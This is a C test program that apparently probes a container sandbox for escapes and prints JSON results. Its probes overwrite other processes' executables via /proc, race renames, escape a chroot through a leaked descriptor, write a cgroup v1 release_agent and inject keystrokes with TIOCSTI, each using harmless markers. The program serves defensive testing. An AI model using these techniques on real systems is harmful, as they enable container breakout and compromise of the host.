/*
 * What is tried by who owns a container, and the same against processes that nobody confined, as the control. Each verb prints one line of JSON.
 *   overwrite MS             write to the programs of all other processes that it can see, for that long or until SIGTERM; tells of each
 *   swap A B                 exchange two names, over and over, until it is ended
 *   victim PID               a program of the host that enters the container of PID, as a careless runtime would
 *   leak ROOT PATH           a folder that was left open: through /proc/self/fd out of a chroot, to PATH
 *   release-agent            a namespace of one's own, cgroup version 1 in it, and its release_agent
 *   agent-control DIR        the same by root of the host
 *   type                     keys typed into the terminal that is its standard input, for whoever reads there next
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char mark[] = "overwritten by the container\n";

static long now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

/* Programs of others that could be opened. A program cannot be written to while it runs, so each is tried until the end. */
static int handles[256];
static struct {
	dev_t dev;
	ino_t ino;
} known[256];
static size_t n_handles;
static long seen, written;
static volatile sig_atomic_t told_to_end;

static void end(int signal)
{
	(void)signal;
	told_to_end = 1;
}

static void look(const struct stat *own)
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;

	while (proc && (entry = readdir(proc))) {
		char path[300];
		struct stat st;
		bool old = false;
		int fd;

		if (entry->d_name[0] < '0' || entry->d_name[0] > '9')
			continue;
		snprintf(path, sizeof(path), "/proc/%s/exe", entry->d_name);
		fd = open(path, O_PATH | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (fstat(fd, &st) < 0 || (st.st_dev == own->st_dev && st.st_ino == own->st_ino)) {
			close(fd);
			continue;
		}
		seen++;
		for (size_t i = 0; i < n_handles; i++)
			old |= known[i].dev == st.st_dev && known[i].ino == st.st_ino;
		if (old || n_handles == sizeof(handles) / sizeof(handles[0])) {
			close(fd);
			continue;
		}
		known[n_handles].dev = st.st_dev;
		known[n_handles].ino = st.st_ino;
		handles[n_handles++] = fd;
		printf("{\"found\":%zu}\n", n_handles);
		fflush(stdout);
	}
	if (proc)
		closedir(proc);
}

static int overwrite(long ms)
{
	long until = now_ms() + ms;
	struct stat own;
	int last = 0;

	if (stat("/proc/self/exe", &own) < 0)
		return 1;
	signal(SIGTERM, end);
	puts("{\"ready\":true}");
	fflush(stdout);
	while (now_ms() < until && !told_to_end) {
		look(&own);
		for (size_t i = 0; i < n_handles; i++) {
			char path[64];
			int fd;

			snprintf(path, sizeof(path), "/proc/self/fd/%d", handles[i]);
			fd = open(path, O_WRONLY | O_CLOEXEC);
			if (fd < 0) {
				last = errno;
				continue;
			}
			if (write(fd, mark, sizeof(mark) - 1) > 0)
				written++;
			close(fd);
		}
	}
	printf("{\"seen\":%ld,\"programs\":%zu,\"written\":%ld,\"errno\":\"%s\"}\n", seen, n_handles, written,
	       last ? strerrorname_np(last) : "");
	return 0;
}

static int swap(const char *a, const char *b)
{
	puts("{\"ready\":true}");
	fflush(stdout);
	for (;;)
		if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) < 0 && errno != ENOENT &&
		    errno != EBUSY)
			return 1;
}

static int victim(pid_t target)
{
	int fd = (int)syscall(SYS_pidfd_open, target, 0);
	pid_t child;

	if (fd < 0 || setns(fd, CLONE_NEWPID | CLONE_NEWNS) < 0)
		return 1;
	child = fork();
	if (child == 0) {
		nanosleep(&(struct timespec){.tv_nsec = 200000000}, NULL);
		_exit(0);
	}
	waitpid(child, NULL, 0);
	return 0;
}

static int leak(const char *root, const char *path)
{
	int fd = open("/", O_RDONLY | O_DIRECTORY), file;
	char way[64], text[256], proc[4096];
	ssize_t got;

	snprintf(proc, sizeof(proc), "%s/proc", root);
	snprintf(way, sizeof(way), "/proc/self/fd/%d", fd);
	if (mount("/proc", proc, NULL, MS_BIND | MS_REC, NULL) < 0 || chroot(root) < 0 || chdir("/") < 0 || chdir(way) < 0)
		return 1;
	file = open(path + 1, O_RDONLY);
	got = file < 0 ? -1 : read(file, text, sizeof(text) - 1);
	if (got < 0)
		return 1;
	text[got] = '\0';
	text[strcspn(text, "\n")] = '\0';
	printf("{\"read\":\"%s\"}\n", text);
	return 0;
}

static void put(const char *file, const char *text)
{
	int fd = open(file, O_WRONLY);

	if (fd >= 0) {
		(void)!write(fd, text, strlen(text));
		close(fd);
	}
}

static void agent_try(const char *dir, const char *step)
{
	static const char *const options[] = {"none,name=vxe-hole", "rdma", "misc", "pids", "memory"};
	char file[4200];
	int fd, failed = 0;

	for (size_t i = 0; i < sizeof(options) / sizeof(options[0]); i++) {
		if (mount("cgroup", dir, "cgroup", 0, options[i]) < 0) {
			failed = errno;
			continue;
		}
		step = "release_agent";
		snprintf(file, sizeof(file), "%s/release_agent", dir);
		fd = open(file, O_WRONLY);
		failed = fd < 0 || write(fd, "/nonesuch", 9) != 9 ? errno : 0;
		if (!failed) {
			(void)!write(fd, "\n", 1);
			close(fd);
		}
		umount2(dir, MNT_DETACH);
		break;
	}
	printf("{\"step\":\"%s\",\"done\":%s,\"errno\":\"%s\"}\n", step, failed ? "false" : "true",
	       failed ? strerrorname_np(failed) : "");
}

static int release_agent(void)
{
	char map[64];
	unsigned int uid = geteuid(), gid = getegid();

	if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0) {
		printf("{\"step\":\"unshare\",\"done\":false,\"errno\":\"%s\"}\n", strerrorname_np(errno));
		/* As root of the container, then. */
		agent_try("/tmp", "mount");
		return 0;
	}
	put("/proc/self/setgroups", "deny");
	snprintf(map, sizeof(map), "0 %u 1", uid);
	put("/proc/self/uid_map", map);
	snprintf(map, sizeof(map), "0 %u 1", gid);
	put("/proc/self/gid_map", map);
	agent_try("/tmp", "mount");
	return 0;
}

/* By each descriptor of it, by the name of one's terminal, and after an attempt to make it one's own. */
static int type_keys(void)
{
	const char *step = "TIOCSTI";
	char key = '\0';
	int own, failed = EBADF;

	for (int round = 0; round < 2 && failed; round++) {
		for (int fd = 0; fd < 3 && failed; fd++)
			failed = ioctl(fd, TIOCSTI, &key) < 0 ? errno : 0;
		own = failed ? open("/dev/tty", O_RDWR | O_CLOEXEC) : -1;
		if (own >= 0) {
			step = "/dev/tty";
			failed = ioctl(own, TIOCSTI, &key) < 0 ? errno : 0;
			close(own);
		}
		if (failed && round == 0 && (ioctl(0, TIOCSCTTY, 1) == 0 || ioctl(0, TIOCSCTTY, 0) == 0))
			step = "TIOCSCTTY";
	}
	printf("{\"step\":\"%s\",\"terminal\":%s,\"done\":%s,\"errno\":\"%s\"}\n", step, isatty(0) ? "true" : "false",
	       failed ? "false" : "true", failed ? strerrorname_np(failed) : "");
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 3 && !strcmp(argv[1], "overwrite"))
		return overwrite(atol(argv[2]));
	if (argc == 4 && !strcmp(argv[1], "swap"))
		return swap(argv[2], argv[3]);
	if (argc == 2 && !strcmp(argv[1], "type"))
		return type_keys();
	if (argc == 3 && !strcmp(argv[1], "victim"))
		return victim(atoi(argv[2]));
	if (argc == 4 && !strcmp(argv[1], "leak"))
		return leak(argv[2], argv[3]);
	if (argc == 2 && !strcmp(argv[1], "release-agent"))
		return release_agent();
	if (argc == 3 && !strcmp(argv[1], "agent-control")) {
		agent_try(argv[2], "mount");
		return 0;
	}
	return 2;
}
